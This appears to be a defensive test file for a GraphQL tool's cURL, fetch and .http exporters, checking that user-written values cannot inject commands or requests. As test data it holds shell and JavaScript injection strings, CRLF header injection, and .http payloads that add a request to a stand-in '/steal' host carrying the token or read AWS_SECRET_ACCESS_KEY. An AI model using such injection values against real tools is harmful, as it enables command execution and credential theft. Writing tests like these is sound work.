import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { parse } from 'graphql';
import { ExportError, headerVariable, requestBody, toCurl, toFetch, toHttpFile, TOKEN_VARIABLE, type ExportHeader, type SentRequest } from '../../../../src/core/run/exportRun';
import { curlRequest, fetchCall, httpFileRequests, shellCommands } from './exportConsumers';

/**
 * An export is pasted into a shell or a script, or sent by an HTTP-file client: what a repository's
 * settings or a server wrote (an environment's name, headers, the endpoint, the query, a token)
 * must reach that consumer as the one request it is, with exactly those values, and never as a
 * command or a request of its own.
 */

const TOKEN = 'TOKEN-FROM-ENV';

/** The environment the exported commands are read with: the token and each secret header's variable. */
function envOf(request: SentRequest): Record<string, string> {
  const env: Record<string, string> = { [TOKEN_VARIABLE]: TOKEN };
  for (const h of request.headers ?? []) {
    if (h.value === undefined) {
      env[headerVariable(h.name)] = `secret of ${h.name}`;
    }
  }
  return env;
}

/** The headers a request must carry, as [name, value] in order: Content-Type, the token's, the extra ones. */
function expectedHeaders(request: SentRequest, token: string, secret: (h: ExportHeader) => string): [string, string][] {
  const auth = request.authHeader ?? { name: 'Authorization', scheme: 'Bearer' };
  return [
    ['Content-Type', 'application/json'],
    [auth.name, `${auth.scheme ? `${auth.scheme} ` : ''}${token}`],
    ...(request.headers ?? []).map((h): [string, string] => [h.name, h.value ?? secret(h)]),
  ];
}

/** Runs a cURL export in `sh` with `curl` a function that prints its arguments, in an empty folder: the arguments, and whether `pwned` was made. */
function runCurlInSh(text: string, env: Record<string, string>): { args: string[]; pwned: boolean } {
  const dir = mkdtempSync(join(tmpdir(), 'tg-export-'));
  try {
    execFileSync('sh', ['-n', '-c', text]);
    const stub = `curl() { printf '%s\\0' curl "$@"; }\n`;
    const out = execFileSync('sh', ['-c', stub + text], { cwd: dir, encoding: 'utf8', env: { PATH: process.env.PATH, ...env } });
    return { args: out.split('\0').slice(0, -1), pwned: existsSync(join(dir, 'pwned')) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Runs a fetch export in Node (an ES module, as the top-level await needs) with `fetch` a function that prints its arguments. */
function runFetchInNode(text: string, env: Record<string, string>): { url: string; init: { method: string; headers: Record<string, string>; body: string }; pwned: boolean } {
  const dir = mkdtempSync(join(tmpdir(), 'tg-export-'));
  try {
    const stub = `globalThis.fetch = async (url, init) => { process.stdout.write(JSON.stringify({ url, init })); return { json: async () => ({}) }; };\nconsole.log = () => {};\n`;
    const out = execFileSync(process.execPath, ['--input-type=module', '-e', stub + text], { cwd: dir, encoding: 'utf8', env: { PATH: process.env.PATH, ...env } });
    return { ...(JSON.parse(out) as { url: string; init: { method: string; headers: Record<string, string>; body: string } }), pwned: existsSync(join(dir, 'pwned')) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const base: SentRequest = {
  endpoint: 'https://api.example.test/v1/graphql',
  query: 'query Me { me { id } }',
  operationName: 'Me',
  environment: 'Staging',
};

describe('exports hold what a repository or a server wrote as values, never as commands or requests', function () {
  this.timeout(60_000);

  describe("a workspace environment's name with a line break", () => {
    // Each names a file `pwned` that the second line would make.
    const shellName = 'Staging\ntouch pwned #';
    const jsName = "Staging\nawait import('node:fs').then((fs) => fs.writeFileSync('pwned', '')) //";

    it('is a comment of one line in the cURL command: sh runs curl alone, with the same arguments', () => {
      for (const name of [shellName, 'Staging\r\ntouch pwned #', 'Staging\u2028\ntouch pwned #']) {
        const request: SentRequest = { ...base, environment: name, headers: [{ name: 'X-Api-Key' }] };
        const { args, pwned } = runCurlInSh(toCurl(request), envOf(request));
        assert.equal(pwned, false, 'the second line of the name ran');
        const sent = curlRequest(args);
        assert.deepEqual([sent.method, sent.url, sent.headers], ['POST', base.endpoint, expectedHeaders(request, TOKEN, (h) => `secret of ${h.name}`)]);
        assert.equal(sent.data, requestBody(request));
      }
    });

    it('is a comment of one line in the fetch call: Node runs the call alone', () => {
      for (const name of [jsName, jsName.replace('\n', '\u2028'), jsName.replace('\n', '\r')]) {
        const request: SentRequest = { ...base, environment: name, headers: [{ name: 'X-Api-Key' }] };
        const { url, init, pwned } = runFetchInNode(toFetch(request), envOf(request));
        assert.equal(pwned, false, 'the second line of the name ran');
        assert.equal(url, base.endpoint);
        assert.deepEqual(init.headers, Object.fromEntries(expectedHeaders(request, TOKEN, (h) => `secret of ${h.name}`)));
        assert.equal(init.body, requestBody(request));
      }
    });

    it('is a comment of one line in the .http file: one request, to the endpoint', () => {
      const request: SentRequest = { ...base, environment: 'Staging\n###\nPOST http://127.0.0.1:9/steal\n\n{{token}}' };
      const requests = httpFileRequests(toHttpFile(request));
      assert.deepEqual(
        requests.map((r) => r.url),
        [base.endpoint],
      );
    });
  });

  it("the operation's own text cannot add a request to the .http file: a block string with ### stays in the JSON body", () => {
    const query = 'query Steal {\n  echo(text: """\n###\nPOST http://127.0.0.1:9/steal\n\n{{token}}\n""")\n}';
    parse(query); // a valid operation
    const request: SentRequest = { ...base, query, operationName: 'Steal', variables: { note: '\n###\nGET http://127.0.0.1:9/{{token}}' } };
    const requests = httpFileRequests(toHttpFile(request));
    assert.equal(requests.length, 1);
    const [only] = requests;
    assert.deepEqual([only.method, only.url], ['POST', base.endpoint]);
    assert.equal(JSON.stringify(JSON.parse(only.body)), requestBody(request));
    assert.ok(!only.body.includes('{{'), 'no {{ a client would read as a variable');
  });

  it('refuses what a format cannot hold (a header line with a line break, {{ in a .http header, a header name that is none), writing nothing', () => {
    const refused: [string, () => string][] = [
      ['a token with a line break (cURL)', () => toCurl(base, 'abc\n###')],
      ['a token with a line break (fetch)', () => toFetch(base, 'abc\u2028x')],
      ['a token with {{ (.http)', () => toHttpFile(base, 'abc{{$processEnv HOME}}')],
      ['a header value with {{ (.http)', () => toHttpFile({ ...base, headers: [{ name: 'X-Tenant', value: '{{$processEnv AWS_SECRET_ACCESS_KEY}}' }] })],
      ['a header value with a line break', () => toCurl({ ...base, headers: [{ name: 'X-Tenant', value: 'a\r\nX-Evil: 1' }] })],
      ['a header name with a colon', () => toFetch({ ...base, headers: [{ name: 'X-A: b', value: 'c' }] })],
      ['an endpoint with a line break (.http)', () => toHttpFile({ ...base, endpoint: 'https://a.test/\n###' })],
      ['an endpoint with a space (.http)', () => toHttpFile({ ...base, endpoint: 'https://a.test/ HTTP/1.1' })],
    ];
    for (const [what, render] of refused) {
      assert.throws(render, ExportError, what);
    }
  });

  it('table: what the shell would act on stays text in the cURL command, run by sh', () => {
    const nasty = ["'; touch pwned; '", '$(touch pwned)', '`touch pwned`', '"; touch pwned; "', '\\', '$HOME', '!!', '{a,b}', '[1-9]', '\t', ' ', '', 'café ✓ \u2028 \u0085'];
    for (const text of nasty) {
      // A header line holds no control character but a tab (the exports refuse one, as the settings do).
      const line = /[^\P{Cc}\t]|[\u2028\u2029]/u.test(text) ? 'x' : text;
      const request: SentRequest = {
        endpoint: `https://api.example.test/v1/${encodeURIComponent(text)}{a,b}[1-2]`,
        query: `query Q { a(text: ${JSON.stringify(text)}) }`,
        operationName: text === '' ? undefined : text,
        variables: { [text]: text, nested: [text, { [text]: null }] },
        environment: text,
        authHeader: { name: 'X-Api-Token', scheme: line },
        headers: [{ name: 'X-Plain', value: line }, { name: 'X-Secret' }],
      };
      const { args, pwned } = runCurlInSh(toCurl(request), envOf(request));
      assert.equal(pwned, false, text);
      const sent = curlRequest(args);
      assert.equal(sent.globoff, true, 'curl reads no {a,b} or [1-9] in the address');
      assert.equal(sent.url, request.endpoint, text);
      assert.deepEqual(
        sent.headers,
        expectedHeaders(request, TOKEN, (h) => `secret of ${h.name}`).map(([n, v]) => [n, v.replace(/^[ \t]+/, '')]),
        text,
      );
      assert.equal(JSON.stringify(JSON.parse(sent.data!)), requestBody(request), text);
    }
  });

  describe('properties: random text in every field, read back by the consumer', () => {
    /** Characters each consumer gives a meaning, line terminators and controls among them, and any other. */
    const char = fc.oneof(
      {
        weight: 3,
        arbitrary: fc.constantFrom(...'\n\r\u2028\u2029\u0085\t\0\x1b\x7f\x9b\u202e \'"$`\\!#;&|<>(){}[]*?~%@=:,'.split(''), '{{', '}}', '###', '$(', '${', '\r\n', '*/', '//'),
      },
      { weight: 5, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }) },
      { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
    );
    const text = fc.string({ unit: char, maxLength: 12 });
    const tokenName = fc.oneof(fc.stringMatching(/^[!#$%&'*+.^_`|~0-9A-Za-z-]{1,12}$/), fc.constantFrom('__proto__', 'X-Api-Key', 'constructor'));
    const key = fc.oneof(text, fc.constantFrom('__proto__', 'constructor', '0', '10'));
    const json: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
      value: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.constantFrom(null, true, false, 0, -1.5, 1e21),
        text,
        fc.array(tie('value'), { maxLength: 3 }),
        fc.array(fc.tuple(key, tie('value')), { maxLength: 3 }).map(ownObject),
      ),
    })).value;

    /** An object with these own properties (a `__proto__` key too, as JSON.parse makes it). */
    function ownObject(entries: [string, unknown][]): Record<string, unknown> {
      const out: Record<string, unknown> = {};
      for (const [k, v] of entries) {
        Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
      }
      return out;
    }

    const requestArb: fc.Arbitrary<SentRequest> = fc
      .record({
        endpoint: fc.oneof(fc.webUrl({ withQueryParameters: true, withFragments: true }), text),
        query: text,
        operationName: fc.option(text, { nil: undefined }),
        variables: fc.option(fc.array(fc.tuple(key, json), { maxLength: 3 }).map(ownObject), { nil: undefined }),
        environment: text,
        authHeader: fc.option(fc.record({ name: tokenName, scheme: fc.oneof(fc.constantFrom('Bearer', ''), tokenName, text) }), { nil: undefined }),
        headers: fc.uniqueArray(fc.tuple(tokenName, fc.option(text, { nil: undefined })), { maxLength: 4, selector: ([n]) => n.toLowerCase() }),
      })
      .filter((r) => {
        const names = [r.authHeader?.name ?? 'Authorization', 'Content-Type'].map((n) => n.toLowerCase());
        return r.headers.every(([n]) => !names.includes(n.toLowerCase())) && names[0] !== names[1];
      })
      .map((r) => ({ ...r, headers: r.headers.map(([name, value]) => (value === undefined ? { name } : { name, value })) }));

    /** What a header line can hold: no control character but a tab. */
    const lineOk = (v: string) => !/[^\P{Cc}\t]|[\u2028\u2029]/u.test(v);
    /** Whether the cURL and fetch exports can write the request: the endpoint, the scheme and the header values are lines of text. */
    function representable(r: SentRequest, token?: string): boolean {
      return (
        !/[\p{Cc}\u2028\u2029]/u.test(r.endpoint) &&
        lineOk(r.authHeader?.scheme ?? '') &&
        (r.headers ?? []).every((h) => h.value === undefined || lineOk(h.value)) &&
        (token === undefined || lineOk(token))
      );
    }
    /** And the .http export: besides, no `{{` (a variable to the clients) on a header or request line, no space in the address. */
    function representableInHttp(r: SentRequest, token?: string): boolean {
      const lines = [r.endpoint, r.authHeader?.scheme ?? '', ...(r.headers ?? []).map((h) => h.value ?? ''), token ?? ''];
      return representable(r, token) && r.endpoint !== '' && !/\s/.test(r.endpoint) && lines.every((l) => !l.includes('{{'));
    }
    const tokenArb = fc.option(text, { nil: undefined });

    /** The export, or undefined when it refused (and it must refuse exactly what it cannot hold). */
    function exported(render: () => string, ok: boolean): string | undefined {
      try {
        const out = render();
        assert.ok(ok, 'wrote a request it cannot hold faithfully');
        return out;
      } catch (err) {
        if (!(err instanceof ExportError) || ok) {
          throw err;
        }
        return undefined;
      }
    }

    it('cURL: sh-style word splitting gives one curl command with exactly the values', () => {
      fc.assert(
        fc.property(requestArb, tokenArb, (request, token) => {
          const out = exported(() => toCurl(request, token), representable(request, token));
          if (out === undefined) {
            return;
          }
          const commands = shellCommands(out, envOf(request));
          assert.equal(commands.length, 1, JSON.stringify(commands));
          const sent = curlRequest(commands[0]);
          assert.equal(sent.method, 'POST');
          assert.equal(sent.globoff, true);
          assert.equal(sent.url, request.endpoint);
          const headers = expectedHeaders(request, token ?? TOKEN, (h) => `secret of ${h.name}`).map(([n, v]): [string, string] => [n, v.replace(/^[ \t]+/, '')]);
          assert.deepEqual(sent.headers, headers);
          assert.equal(JSON.stringify(JSON.parse(sent.data!)), requestBody(request));
          assert.ok(!/[\p{Cc}\u2028\u2029]/u.test(out.replace(/\n/g, '').replace(/\t/g, '')), 'no control character but line ends (and a tab in a header) on the clipboard');
          // zsh reads a pasted comment line as a command `#` (not found) by default: its words must be inert too.
          const zsh = shellCommands(out, envOf(request), { comments: false });
          assert.ok(
            zsh.slice(0, -1).every((words) => words[0] === '#'),
            JSON.stringify(zsh),
          );
          assert.deepEqual(zsh[zsh.length - 1], commands[0]);
        }),
        { numRuns: 300 },
      );
    });

    it('fetch: an ES parser reads one fetch call with exactly the values, and no other statement', () => {
      fc.assert(
        fc.property(requestArb, tokenArb, (request, token) => {
          const out = exported(() => toFetch(request, token), representable(request, token));
          if (out === undefined) {
            return;
          }
          const env = envOf(request);
          const call = fetchCall(out, env);
          assert.equal(call.url, request.endpoint);
          assert.equal(call.init.method, 'POST');
          const headers: Record<string, string> = {};
          for (const [n, v] of expectedHeaders(request, token ?? TOKEN, (h) => env[headerVariable(h.name)])) {
            Object.defineProperty(headers, n, { value: v, enumerable: true, writable: true, configurable: true });
          }
          assert.deepEqual(call.init.headers, headers);
          assert.equal(call.init.body, requestBody(request));
          assert.ok(!/[\p{Cc}\u2028\u2029]/u.test(out.replace(/\n/g, '')), 'no control character but line ends in the script');
        }),
        { numRuns: 300 },
      );
    });

    it('.http: the request splitter finds one request with exactly the values, and a JSON body without {{', () => {
      fc.assert(
        fc.property(requestArb, tokenArb, (request, token) => {
          const out = exported(() => toHttpFile(request, token), representableInHttp(request, token));
          if (out === undefined) {
            return;
          }
          const requests = httpFileRequests(out);
          assert.equal(requests.length, 1);
          const [only] = requests;
          assert.deepEqual([only.method, only.url], ['POST', request.endpoint]);
          const variable = (h: ExportHeader) => `{{header_${h.name.toLowerCase().replace(/[^a-z0-9]+/g, '_')}}}`;
          const headers = expectedHeaders(request, token ?? '{{token}}', variable).map(([n, v]): [string, string] => [n, v.trim()]);
          assert.deepEqual(
            only.headers.map(([n, v]) => [n, v.trim()]),
            headers,
          );
          assert.equal(JSON.stringify(JSON.parse(only.body)), requestBody(request));
          assert.ok(!only.body.includes('{{'), 'a {{ in the body would be a variable');
          assert.ok(!/[\p{Cc}\u2028\u2029]/u.test(out.replace(/\n/g, '').replace(/\t/g, '')), 'no control character but line ends (and a tab in a header)');
        }),
        { numRuns: 300 },
      );
    });
  });
});
